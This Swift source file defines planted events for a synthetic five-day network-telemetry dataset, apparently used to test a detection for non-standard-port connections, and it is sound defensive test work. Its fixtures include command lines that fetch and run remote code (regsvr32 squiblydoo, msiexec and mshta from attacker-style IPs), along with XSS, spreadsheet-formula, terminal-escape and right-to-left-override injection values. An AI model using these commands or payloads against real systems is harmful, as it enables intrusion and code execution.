/// All that is planted in the company's five days.
package enum Plants {
  typealias Peer = LogicalEvent.Peer

  package static let all: [Plant] =
    tests + campaigns + evasions + expected + hostile

  /// The published detection's four tests and Atomic Red Team's two.
  static let tests: [Plant] = [
    Plant(
      "test-1-powershell-4444", .publishedTest,
      "The detection's test 1: PowerShell to a listener on 4444.",
      on: "NH-WS01", Programs.powerShell("powershell.exe -NoProfile -Command New-Object"),
      day: 0, at: "08:42", to: [Peer("203.0.113.9", 4444)], times: 3, seed: 3, tuned: 3),
    Plant(
      "test-2-curl-8088", .publishedTest,
      "The detection's test 2: curl over and over to 8088, from Linux.",
      on: "nh-web01",
      Programs.linux("/usr/bin/curl", command: "curl -sk https://203.0.113.20:8088/"),
      day: 1, at: "10:05", to: [Peer("203.0.113.20", 8088)], times: 6, seed: 1, tuned: 1
    ).with {
      $0.isProcessPerConnection = true
      $0.user = "www-data"
    },
    Plant(
      "test-2-python-8088", .publishedTest,
      "The detection's test 2 again, with python3.",
      on: "nh-web01", Programs.linux("/usr/bin/python3", command: "python3 beacon.py"),
      day: 1, at: "10:20", to: [Peer("203.0.113.20", 8088)], times: 4, seed: 1, tuned: 1
    ).with { $0.user = "www-data" },
    Plant(
      "test-3-rdp-port-change", .publishedTest,
      "The detection's test 3: the RDP port set to 33890 in the registry, Event ID 13.",
      on: "NH-WS14", Programs.powerShell("powershell.exe Set-ItemProperty RDP-Tcp PortNumber"),
      day: 1, at: "12:10", seed: 0, tuned: 0
    ).with {
      $0.registryValue = (
        "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\WinStations\\RDP-Tcp\\PortNumber",
        "DWORD (0x00008462)"
      )
    },
    Plant(
      "test-3-rdp-on-33890", .publishedTest,
      "What then arrived at the moved RDP port: accepted connections, so no row of the query.",
      on: "NH-WS14", Programs.service("TermService", group: "NetworkService"),
      day: 1, at: "12:31", to: [Peer("198.51.100.77", 33890)], times: 5, seed: 0, tuned: 0
    ).with {
      $0.isInbound = true
      $0.start = .missing
      $0.user = Background.networkService
    },
    Plant(
      "test-4-beacon-9001", .publishedTest,
      "The detection's test 4: ten connections from PowerShell to 9001, 60 s apart.",
      on: "NH-WS12", Programs.powerShell("powershell.exe -File beacon.ps1"),
      day: 0, at: "13:15", to: [Peer("203.0.113.61", 9001)], times: 10, seed: 3, tuned: 3
    ).with {
      $0.pace = Plant.Pace(seconds: 60, jitterMilliseconds: 300)
      $0.beaconSeconds = 60
    },
    Plant(
      "atomic-1-powershell-8081", .atomicTest,
      "Atomic Red Team T1571-1: Test-NetConnection to 8081.",
      on: "NH-WS03", Programs.powerShell("powershell.exe Test-NetConnection -Port 8081"),
      day: 2, at: "09:30", to: [Peer("203.0.113.81", 8081)], times: 1, seed: 2, tuned: 2),
    Plant(
      "atomic-2-telnet-8081", .atomicTest,
      "Atomic Red Team T1571-2: telnet to 8081 from Linux, which the query cannot see.",
      on: "nh-db01", Programs.linux("/usr/bin/telnet", command: "telnet 203.0.113.81 8081"),
      day: 2, at: "09:40", to: [Peer("203.0.113.81", 8081)], times: 1, seed: 0, tuned: 0),
  ]

  /// The campaigns the detection names, and those of the reports it cites.
  static let campaigns: [Plant] = [
    Plant(
      "wirte-rundll32-2083", .campaign, "WIRTE: HTTPS to 2083 from rundll32.",
      on: "NH-WS05",
      Programs.windows(
        "rundll32.exe", original: "RUNDLL32.EXE", parent: Programs.word.image,
        command: "rundll32.exe javascript:\"\\..\\mshtml\""),
      day: 1, at: "07:20", to: [Peer("198.51.100.83", 2083)], times: 14, seed: 3, tuned: 3),
    Plant(
      "wirte-regsvr32-2087", .campaign, "WIRTE: HTTPS to 2087 from regsvr32, by squiblydoo.",
      on: "NH-WS13",
      Programs.windows(
        "regsvr32.exe", original: "REGSVR32.EXE", parent: Programs.cmd,
        command: "regsvr32.exe /s /n /u /i:https://198.51.100.83:2087/a.sct scrobj.dll"),
      day: 2, at: "07:50", to: [Peer("198.51.100.83", 2087), Peer("198.51.100.84", 2087)],
      times: 9, seed: 3, tuned: 3),
    Plant(
      "contagious-interview-1224", .campaign,
      "Contagious Interview: BeaverTail in node, to 1224, after a coding test.",
      on: "NH-DEV01",
      Programs.plain(
        "C:\\Program Files\\nodejs\\node.exe",
        parent: "C:\\Users\\dev\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe",
        command: "node.exe server.js"),
      day: 3, at: "11:00", to: [Peer("203.0.113.122", 1224)], times: 20, seed: 1, tuned: 1),
    Plant(
      "pingpull-8080", .campaign,
      "PingPull: every five minutes to 8080, a standard port of the query.",
      on: "NH-FS01", Programs.plain("C:\\ProgramData\\iph1psvc.exe", parent: Programs.services),
      day: 2, at: "01:00", to: [Peer("198.51.100.180", 8080)], times: 72, seed: 0, tuned: 0
    ).with {
      $0.pace = Plant.Pace(seconds: 300, jitterMilliseconds: 4000)
      $0.user = Background.system
      $0.start = .nightBefore
      $0.beaconSeconds = 300
    },
    Plant(
      "silence-444", .campaign, "Silence: HTTPS to 444.",
      on: "NH-BR02",
      Programs.plain("C:\\Users\\Public\\MicrosoftUpdte.exe", parent: Programs.word.image),
      day: 1, at: "08:15", to: [Peer("198.51.100.44", 444)], times: 8, seed: 1, tuned: 1),
    Plant(
      "agent-tesla-587", .campaign, "Agent Tesla: stolen keystrokes by mail to 587.",
      on: "NH-WS08",
      Programs.plain(
        "C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\RegSvcs.exe",
        parent: "C:\\Users\\Public\\invoice.exe"),
      day: 3, at: "06:30", to: [Peer("203.0.113.87", 587, "smtp.mailfleet.example")], times: 12,
      seed: 1, tuned: 1
    ).with { $0.start = .missing },
    Plant(
      "elfin-808-880-8088", .campaign,
      "Elfin: 808 and 880, which no branch of the query reaches, and 8088.",
      on: "NH-BR01",
      Programs.plain("C:\\ProgramData\\SystemNetworkService.exe", parent: Programs.services),
      day: 4, at: "05:10",
      to: [Peer("192.0.2.188", 808), Peer("192.0.2.188", 880), Peer("192.0.2.189", 8088)],
      times: 9, seed: 1, tuned: 1
    ).with { $0.user = Background.system },
    Plant(
      "macro-powershell-4445", .campaign,
      "A macro's PowerShell to 4445, told by Defender with its parent.",
      on: "NH-LT02", Programs.powerShell("powershell -enc SQBFAFgA", parent: Programs.word.image),
      day: 2, at: "14:05", to: [Peer("203.0.113.45", 4445)], times: 5, seed: 3, tuned: 3),
    Plant(
      "kiosk-mshta-7777", .campaign, "A kiosk's mshta to 7777.",
      on: "NH-KI01",
      Programs.windows(
        "mshta.exe", original: "MSHTA.EXE", parent: Programs.explorer,
        command: "mshta.exe http://203.0.113.77:7777/k.hta"),
      day: 1, at: "15:20", to: [Peer("203.0.113.77", 7777)], times: 4, seed: 3, tuned: 3),
    Plant(
      "triage-cscript-31337", .campaign, "What triage found in one machine's event log: 31337.",
      on: "NH-WS19",
      Programs.windows(
        "cscript.exe", original: "cscript.exe", parent: Programs.cmd, command: "cscript.exe a.vbs"),
      day: 3, at: "10:10", to: [Peer("2001:db8:0:0:0:0:0:31", 31337)], times: 7, seed: 3, tuned: 3),
    Plant(
      "branch-wscript-6667", .campaign, "A script host in the branch office, to 6667 and 6050.",
      on: "NH-BR03",
      Programs.windows(
        "wscript.exe", original: "wscript.exe", parent: Programs.explorer,
        command: "wscript.exe C:\\Users\\Public\\freight.js"),
      day: 3, at: "13:00", to: [Peer("203.0.113.66", 6667), Peer("203.0.113.66", 6050)], times: 6,
      seed: 3, tuned: 3),
    Plant(
      "controller-rundll32-9090", .campaign, "On a domain controller: rundll32 to 9090.",
      on: "NH-DC02",
      Programs.windows("rundll32.exe", original: "RUNDLL32.EXE", parent: Programs.lsass.image),
      day: 4, at: "02:20", to: [Peer("198.51.100.90", 9090)], times: 3, seed: 3, tuned: 3
    ).with { $0.user = Background.system },
    Plant(
      "office-msiexec-4443", .campaign,
      "msiexec to 4443; the start of it is shipped in an archive of its own.",
      on: "NH-WS17",
      Programs.windows(
        "msiexec.exe", original: "msiexec.exe", parent: Programs.powerShellImage,
        command: "msiexec.exe /q /i https://203.0.113.143:4443/u.msi"),
      day: 2, at: "11:45", to: [Peer("203.0.113.143", 4443)], times: 2, seed: 3, tuned: 3),
  ]

  /// What the published query misses or grades too low.
  static let evasions: [Plant] = [
    Plant(
      "renamed-powershell", .evasion,
      "PowerShell under another name, to 8443 and 4443: only OriginalFileName tells.",
      on: "NH-WS07",
      Program(
        "C:\\ProgramData\\svchost-update.exe", original: "PowerShell.EXE", "Windows PowerShell",
        command: "svchost-update.exe -w hidden", parent: Programs.system32 + "schtasks.exe"),
      day: 3, at: "07:05", to: [Peer("203.0.113.143", 8443), Peer("203.0.113.143", 4443)],
      times: 8, seed: 1, tuned: 3),
    Plant(
      "empire-beacon-80", .beacon,
      "An Empire-like agent: PowerShell to port 80 about every 40 s, with jitter.",
      on: "NH-WS11", Programs.powerShell("powershell -noP -sta -w 1 -enc", parent: Programs.cmd),
      day: 1, at: "09:00", to: [Peer("203.0.113.80", 80)], times: 120, seed: 0, tuned: 0
    ).with {
      $0.pace = Plant.Pace(seconds: 40, jitterMilliseconds: 8000)
      $0.beaconSeconds = 40
    },
    Plant(
      "sleeping-laptop-6666", .evasion,
      "PowerShell to 6666 from a host whose network clock is 8237 s behind.",
      on: "NH-WS15", Programs.powerShell("powershell.exe -File sync.ps1"),
      day: 3, at: "12:00", to: [Peer("198.51.100.66", 6666)], times: 4, seed: 3, tuned: 3),
    Plant(
      "night-before-8888", .evasion,
      "PowerShell to 8888; the process began the night before, in another archive.",
      on: "NH-WS04", Programs.powerShell("powershell.exe -w hidden", parent: Programs.word.image),
      day: 4, at: "06:40", to: [Peer("203.0.113.188", 8888)], times: 11, seed: 3, tuned: 3
    ).with { $0.start = .nightBefore },
  ]

  /// What looks the same and is not.
  static let expected: [Plant] = [
    Plant(
      "dsregcmd-49674", .falsePositive,
      "dsregcmd.exe ends in cmd.exe: RPC to a domain controller.",
      on: "NH-WS18",
      Programs.windows(
        "dsregcmd.exe", original: "dsregcmd.exe", parent: Programs.service("x").image),
      day: 1, at: "06:02", to: [Peer(Company.controllers[0], 49674, "nh-dc01.nordhafen.example")],
      times: 2, seed: 2, tuned: 0
    ).with { $0.user = Background.system },
    Plant(
      "winrm-5985", .falsePositive, "An administrator's PowerShell remoting, 5985.",
      on: "NH-SEC01",
      Programs.powerShell("powershell.exe Enter-PSSession", parent: Programs.explorer),
      day: 0, at: "07:30", to: [Peer("10.20.0.31", 5985), Peer("10.20.0.32", 5985)], times: 12,
      seed: 2, tuned: 2),
    Plant(
      "rpc-49671", .falsePositive, "PowerShell's Active Directory module: RPC to a controller.",
      on: "NH-SEC01", Programs.powerShell("powershell.exe Get-ADUser", parent: Programs.cmd),
      day: 2, at: "08:10", to: [Peer(Company.controllers[1], 49671)], times: 3, seed: 2, tuned: 2),
    Plant(
      "authorised-test-1337", .falsePositive, "The security team's own listener test on 1337.",
      on: "NH-SEC01", Programs.plain("C:\\Tools\\ncat.exe", parent: Programs.cmd),
      day: 4, at: "09:00", to: [Peer("10.20.9.50", 1337)], times: 4, seed: 1, tuned: 1),
    Plant(
      "exchange-w3wp-444", .falsePositive, "Exchange's front end to its own back end, 444.",
      on: "NH-EX01", Programs.webWorker,
      day: 0, at: "04:00", to: [Peer("10.20.0.25", 444)], times: 40, seed: 1, tuned: 1
    ).with {
      $0.user = Background.system
      $0.start = .missing
    },
    Plant(
      "exchange-health-444-587", .falsePositive, "Exchange's health manager: 444 and 587.",
      on: "NH-EX01", Programs.exchangeHealth,
      day: 1, at: "03:00",
      to: [Peer("10.20.0.25", 444), Peer("10.20.0.25", 444), Peer("10.20.0.25", 587)], times: 45,
      seed: 1, tuned: 1
    ).with { $0.user = Background.system },
    Plant(
      "developer-node-8088", .falsePositive, "A developer's own server on 8088.",
      on: "NH-DEV01",
      Programs.plain(
        "C:\\Program Files\\nodejs\\node.exe", parent: "C:\\Windows\\System32\\WindowsTerminal.exe",
        command: "node.exe dev.js"),
      day: 1, at: "09:00", to: [Peer("127.0.0.1", 8088)], times: 9, seed: 1, tuned: 1),
    Plant(
      "developer-jupyter-8888", .falsePositive, "A developer's Jupyter on 8888, over IPv6.",
      on: "NH-DEV01",
      Programs.plain("C:\\Python312\\python.exe", parent: Programs.cmd, command: "jupyter lab"),
      day: 2, at: "10:00", to: [Peer("0:0:0:0:0:0:0:1", 8888), Peer("127.0.0.1", 8888)], times: 8,
      seed: 1, tuned: 1),
    Plant(
      "cpanel-2083", .falsePositive, "Marketing edits the web site: cPanel on 2083.",
      on: "NH-WS09", Programs.chrome,
      day: 2, at: "12:20", to: [Peer("192.0.2.83", 2083, "cpanel.webhost.example")], times: 6,
      seed: 1, tuned: 1),
  ]

  /// Values written to hurt whoever shows them.
  static let hostile: [Plant] = [
    Plant(
      "hostile-html-user", .hostile, "HTML in User.",
      on: "NH-LAB01", Programs.powerShell("powershell.exe"),
      day: 2, at: "16:00", to: [Peer("203.0.113.200", 4444)], times: 2, seed: 3, tuned: 3
    ).with { $0.user = "NORDHAFEN\\<img src=x onerror=alert(1)>" },
    Plant(
      "hostile-formula-image", .hostile, "A spreadsheet formula in Image.",
      on: "NH-LAB01", Programs.plain("=cmd()|' /C calc'!A0", parent: "+SUM(1,1)"),
      day: 2, at: "16:05", to: [Peer("203.0.113.201", 4444, "@SUM(1,1).example")], times: 1,
      seed: 1, tuned: 1),
    Plant(
      "hostile-terminal-image", .hostile, "A terminal's clipboard sequence in Image.",
      on: "NH-LAB01",
      Programs.plain(
        "C:\\Temp\\\u{1b}]52;c;ZXZpbA==\u{07}\\powershell.exe",
        parent: "C:\\Temp\\\u{1b}[2J\u{1b}[1;31mclean.exe"),
      day: 2, at: "16:10", to: [Peer("203.0.113.202", 4444)], times: 1, seed: 3, tuned: 3),
    Plant(
      "hostile-bidi-image", .hostile, "A right-to-left override in Image.",
      on: "NH-LAB01", Programs.plain("C:\\Temp\\photo\u{202e}gpj.exe", parent: Programs.explorer),
      day: 2, at: "16:15", to: [Peer("203.0.113.203", 31337)], times: 1, seed: 1, tuned: 1),
    Plant(
      "hostile-markdown-image", .hostile, "A Markdown link in Image.",
      on: "NH-LAB01",
      Programs.plain(
        "C:\\Temp\\[click](javascript:alert(1))|`x`\\mshta.exe", parent: Programs.cmd,
        command: "</script><script>alert(2)</script>"),
      day: 2, at: "16:20", to: [Peer("203.0.113.204", 6668)], times: 1, seed: 3, tuned: 3),
  ]
}
